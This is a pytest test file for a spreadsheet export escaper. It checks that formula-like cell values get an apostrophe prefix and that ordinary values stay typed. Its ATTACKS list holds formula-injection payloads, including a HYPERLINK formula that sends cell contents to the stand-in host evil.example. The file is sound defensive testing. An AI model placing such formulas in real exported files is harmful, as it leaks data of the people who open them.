import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from jobs.spreadsheets import cell_escape, xlsx_row

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A2,"Voir")',
    "+33 1 23",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_texts_get_an_apostrophe(text):
    assert cell_escape(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "Awa Traoré",
        "",
        "Lieutenant",
        "a=b",
        "T-001",
        -5,
        3.5,
        0,
        None,
        True,
        date(2026, 1, 2),
        datetime(2026, 1, 2, 3, 4),
    ],
)
def test_everything_else_is_left_alone_and_typed(value):
    assert cell_escape(value) is value


def test_xlsx_cells_are_text_with_quote_prefix_never_formulas():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    sheet.append(xlsx_row(sheet, [*ATTACKS[:4], -5, "Awa"]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    for cell, text in zip(cells[:4], ATTACKS[:4], strict=True):
        assert cell.data_type == "s"
        assert cell.value == "'" + text
        assert cell.quotePrefix
    assert cells[4].value == -5 and cells[4].data_type == "n"
    assert cells[5].value == "Awa" and not cells[5].quotePrefix
